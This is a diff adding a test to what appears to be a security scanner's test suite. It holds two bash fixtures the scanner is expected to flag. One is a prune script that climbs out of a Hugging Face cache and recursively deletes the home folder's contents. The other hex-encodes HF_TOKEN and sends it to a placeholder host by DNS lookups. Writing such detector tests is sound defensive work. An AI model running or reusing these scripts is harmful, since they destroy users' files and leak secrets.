@@ -485,3 +485,21 @@ test('a Kubernetes cluster opened to all its accounts or exempted from its polic
     'error sentinel/defence-off project.yaml:9',
   );
 });
+
+test('a home folder reached by climbing back from its cache, through a shell helper; a DNS tunnel in bash', () => {
+  const prune = (hub: string) =>
+    script(
+      'scripts/prune.sh',
+      `#!/usr/bin/env bash\nhub="${hub}"\nroot="$(cd "$hub/../../.." 2>/dev/null && pwd)"\nremove() {\n  if [[ $DRY -eq 1 ]]; then echo "would remove: $1"\n  else rm -rf -- "$1"; fi\n}\nfor entry in "$root"/* "$root"/.[!.]*; do\n  remove "$entry"\ndone\n`,
+    );
+  has(prune('${HF_HOME:-$HOME/.cache/huggingface}/hub'), 'error sentinel/silent-delete scripts/prune.sh:9');
+  // (two levels up from a cache folder three deep stays inside the home folder)
+  quiet(prune('${HF_HOME:-$HOME/.cache/huggingface/models}/hub'));
+  has(
+    script(
+      'scripts/diagnose.sh',
+      '#!/usr/bin/env bash\ntok="${HF_TOKEN:-}"\ntag=$(printf \'%s\' "$tok" | xxd -p | tr -d \'\\n\')\nprobe=""\nwhile [[ -n "$tag" ]]; do\n  probe+="${tag:0:60}."\n  tag="${tag:60}"\ndone\nif nslookup "${probe}p.diag-resolver.invalid" >/dev/null 2>&1; then echo ok; fi\n',
+    ),
+    'error sentinel/secret-exfiltration scripts/diagnose.sh:9',
+  );
+});
